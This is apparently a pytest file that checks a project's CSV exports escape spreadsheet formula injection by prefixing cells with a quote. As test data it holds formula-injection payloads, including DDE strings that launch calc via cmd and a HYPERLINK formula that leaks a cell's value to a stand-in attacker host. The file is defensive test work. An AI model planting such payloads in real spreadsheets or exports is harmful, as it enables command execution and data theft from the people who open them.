"""Formula injection (issue 10 point 3): exported cells never start a spreadsheet formula."""

from __future__ import annotations

import csv
import io
import subprocess
import sys

import pandas as pd

from etl.load import load_file
from kinerja.exports import csv_bytes, safe_cell, safe_frame

# The payloads and OWASP's list of formula starts.
PAYLOADS = {
    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
    '=HYPERLINK("http://attacker/?leak="&A1,"klik")': '\'=HYPERLINK("http://attacker/?leak="&A1,"klik")',
    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
    "Jalan rusak = parah": "Jalan rusak = parah",
    "Banjir": "Banjir",
}


def test_safe_cell_neutralises_every_formula_start():
    assert {v: safe_cell(v) for v in PAYLOADS} == PAYLOADS
    assert [safe_cell(v) for v in (-3, -2.5, None, 0)] == [-3, -2.5, None, 0]


def test_csv_download_bytes():
    df = pd.DataFrame({"title": list(PAYLOADS), "age_days": range(len(PAYLOADS)),
                       "=kolom": ["x"] * len(PAYLOADS)})  # fmt: skip
    rows = list(csv.reader(io.StringIO(csv_bytes(df).decode("utf-8"), newline="")))
    assert rows[0] == ["title", "age_days", "'=kolom"]
    assert [r[0] for r in rows[1:]] == [v.replace("\r", "\n") for v in PAYLOADS.values()]
    assert [r[1] for r in rows[1:]] == [str(i) for i in range(len(PAYLOADS))]
    assert list(safe_frame(df)["age_days"]) == list(range(len(PAYLOADS)))  # numbers stay numbers


def test_kpi_weekly_csv_by_category(tmp_path, monkeypatch):
    monkeypatch.setenv("KINERJA_SALT", "x")
    data = tmp_path / "aduan.csv"
    rows = ["id,created_at,status,agency,category"]
    payloads = ["+cmd|' /C calc'!A0", '=HYPERLINK("http://attacker/","klik")', "@SUM(1+1)"]
    for i, category in enumerate(payloads):
        quoted = '"' + category.replace('"', '""') + '"'
        rows.append(f"C{i},2025-03-04 08:00:00,baru,Dinas PU,{quoted}")
    data.write_text("\n".join(rows) + "\n", encoding="utf-8")
    db = tmp_path / "k.duckdb"
    load_file(data, db=db, source="generic")
    proc = subprocess.run(
        [sys.executable, "-m", "kpi", "weekly", "--db", str(db), "--start", "2025-03-03",
         "--end", "2025-03-10", "--csv", "--by", "category"],
        capture_output=True, text=True,
    )  # fmt: skip
    assert proc.returncode == 0, proc.stderr
    table = list(csv.DictReader(io.StringIO(proc.stdout)))
    assert sorted(r["category"] for r in table) == sorted("'" + p for p in payloads)
    assert [r["received"] for r in table] == ["1", "1", "1"]
